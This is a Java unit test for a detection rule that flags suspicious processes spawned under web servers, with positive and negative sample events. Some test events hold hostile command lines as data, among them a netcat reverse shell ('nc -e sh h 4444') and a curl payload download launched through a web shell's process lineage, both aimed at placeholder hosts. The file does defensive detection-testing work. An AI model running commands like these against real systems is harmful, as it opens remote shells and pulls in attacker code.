package io.spawnwatch.rules;

import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_EXECUTION;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_CHILD_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.SUSPICIOUS_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_CHILD;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_COMMAND;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_NETWORK;
import static io.spawnwatch.rules.BuiltinRuleFixture.UNUSUAL_PROCESS;
import static io.spawnwatch.rules.BuiltinRuleFixture.matching;
import static io.spawnwatch.rules.BuiltinRuleFixture.loginShellChild;
import static io.spawnwatch.rules.BuiltinRuleFixture.rule;
import static io.spawnwatch.rules.BuiltinRuleFixture.shFromPhp;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.spawnwatch.event.Field;
import io.spawnwatch.rules.sigma.SigmaRule;
import java.util.List;
import org.junit.jupiter.api.Test;

/** Positive and negative events for one shipped rule, as the Debian 12 sensor reports them. */
class SuspiciousChildExecutionRuleTest {
    private final SigmaRule rule = rule(SUSPICIOUS_CHILD_EXECUTION);

    @Test
    void shouldMatchToolsAndOddPathsUnderAWebServer() {
        assertTrue(rule.detection().matches(TestEvent.phpFpmChild("/tmp/x", "x", "/tmp/x")));
        assertTrue(rule.detection().matches(TestEvent.phpFpmChild("/usr/bin/nc.openbsd", "nc", "nc -e sh h 4444")));
        assertTrue(rule.detection().matches(TestEvent.phpFpmChild("/var/www/html/up/run.sh", "run.sh", "run.sh")));
    }

    @Test
    void shouldMatchDownloadByTheWebShellsShellThroughTheLineage() {
        assertTrue(rule.detection().matches(
                TestEvent.phpFpmGrandchild("/usr/bin/curl", "curl", "curl -o /tmp/x http://e/x")));
    }

    @Test
    void shouldRecogniseApplicationServersByCommandLine() {
        TestEvent e = TestEvent.exec().set(Field.IMAGE, "/usr/bin/wget").set(Field.PROCESS_NAME, "wget")
                .set(Field.PARENT_NAME, "python3").set(Field.PARENT_COMMAND_LINE, "python3 /srv/app/app.py");
        assertTrue(rule.detection().matches(e));
        e.set(Field.PARENT_COMMAND_LINE, "python3 /usr/bin/unattended-upgrade");
        assertFalse(rule.detection().matches(e));
    }

    @Test
    void shouldNotMatchHelpersOrToolsOutsideWebServers() {
        assertFalse(rule.detection().matches(TestEvent.phpFpmChild("/usr/bin/convert", "convert", "convert a b")));
        assertFalse(rule.detection().matches(loginShellChild("/usr/bin/curl", "curl", "curl http://e/")));
    }
}
